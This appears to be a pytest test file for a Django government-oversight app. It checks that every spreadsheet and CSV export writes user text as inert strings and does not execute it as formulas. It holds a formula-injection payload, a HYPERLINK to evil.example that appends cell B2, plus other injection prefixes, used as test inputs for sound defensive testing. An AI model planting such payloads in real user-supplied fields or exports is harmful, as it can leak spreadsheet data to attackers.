"""Every .xlsx and .csv Duban writes keeps user text as text (duban/core/exports.py): a note, a name or a
measure reading =HYPERLINK("http://…"&B2,"…") reaches the office's spreadsheet as those characters."""

import io

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from duban.core import exports

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
RISKY = [FORMULA, "+86 138", "-1+2", "@SUM(A1)", "\tx", "\rx"]


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def cells_of(content):
    """(value, data type) of every cell of every sheet of an .xlsx."""
    book = load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_text_in_xlsx(content, text=FORMULA):
    found = [kind for value, kind in cells_of(content) if value == text]
    assert found, f"{text!r} not written"
    assert set(found) == {"s"}, "written as a formula"
    assert not [value for value, kind in cells_of(content) if kind == "f"]


def assert_text_in_csv(content, text=FORMULA):
    decoded = content.decode("utf-8-sig")
    assert "'" + text.replace('"', '""') in decoded
    assert f",{text}" not in decoded and f'"{text}' not in decoded


# The writer itself.

@pytest.mark.parametrize("text", RISKY)
def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe(text):
    assert exports.csv_text(text) == "'" + text
    assert exports.csv_text("普通文字") == "普通文字" and exports.csv_text(-3) == "'-3"


@pytest.mark.parametrize("text", RISKY)
def test_xlsx_strings_are_string_cells_with_a_quote_prefix(text):
    book = Workbook()
    exports.append(book.active, [text, 12, "普通文字"])
    write_only = Workbook(write_only=True)
    sheet = write_only.create_sheet("x")
    sheet.append([exports.cell(sheet, text)])
    for content in (exports.xlsx_bytes(book), exports.xlsx_bytes(write_only)):
        cell = load_workbook(io.BytesIO(content)).worksheets[0]["A1"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


# Each export.

def test_the_kpi_export_writes_a_units_note_as_text(office, units):
    """Finding 7: the note came out of the office's KPI export as a live formula."""
    from duban.kpi.tests import factories as kpi
    from duban.plans.tests import factories

    plan = factories.plan(year=2026)
    metric = kpi.metric(factories.area(plan, "开办企业"), owner=units["scjg"])
    kpi.value(metric, "2026Q1", "1.0", note=FORMULA)
    response = client_for(office).get(f"/kpi/export.xlsx?plan={plan.pk}")
    assert response.status_code == 200
    assert_text_in_xlsx(response.content)


def test_the_plan_ledger_export(units):
    from duban.plans.exporters import export_ledger_xlsx
    from duban.plans.tests import factories

    plan = factories.plan(year=2026)
    factories.measure(factories.area(plan, "开办企业"), FORMULA, lead=[units["scjg"]], deadline="2026-12-31")
    assert_text_in_xlsx(export_ledger_xlsx(plan))


def test_the_progress_ledger_export(units):
    from duban.plans.models import Measure
    from duban.plans.tests import factories
    from duban.progress.exporters import export_progress_xlsx

    plan = factories.plan(year=2026)
    factories.measure(factories.area(plan, "开办企业"), FORMULA, lead=[units["scjg"]], deadline="2026-12-31")
    assert_text_in_xlsx(export_progress_xlsx(Measure.objects.filter(plan=plan)))


def test_the_circular_workbook():
    from duban.supervision.circulars import PROBLEM_HEADINGS, to_xlsx
    from duban.supervision.models import Circular

    kind = next(iter(PROBLEM_HEADINGS))
    circular = Circular(snapshot={
        "period": "2026年第三季度", "as_of": "2026-10-20", "columns": [{"key": "done", "label": "完成"}],
        "rows": [{"rank": 1, "unit": FORMULA, "values": {"done": 3}}],
        "problems": [{"unit": "区税务局", "kind": kind, "item": "@SUM(A1)"}]})
    content = to_xlsx(circular)
    assert_text_in_xlsx(content)
    assert_text_in_xlsx(content, "@SUM(A1)")


def test_the_complaint_csv(office, file_complaint_in_region):
    file_complaint_in_region(company_name=FORMULA)
    response = client_for(office).get("/hotline/export.csv")
    assert response.status_code == 200
    assert_text_in_csv(response.content)


def test_the_public_open_data_csv(client, units):
    from duban.plans.tests import factories
    from duban.public.models import Publication

    plan = factories.plan(year=2026)
    factories.measure(factories.area(plan, "开办企业"), FORMULA, lead=[units["scjg"]], deadline="2026-12-31")
    Publication.objects.create(plan=plan, published=True)
    assert_text_in_csv(client.get(f"/public/plans/{plan.pk}/data.csv").content)


@pytest.fixture
def file_complaint_in_region(db, office, settings):
    from duban.hotline import flow
    from duban.hotline.models import Category

    settings.DUBAN_TODAY = "2026-09-30T10:00"

    def file(**fields):
        values = dict(category=Category.objects.get(region=office.region_id, name="纳税服务"), company_name="某公司",
                      contact_name="王小明", mobile="13812345678", description="…", recorded_by=office)
        return flow.receive(**(values | fields))

    return file


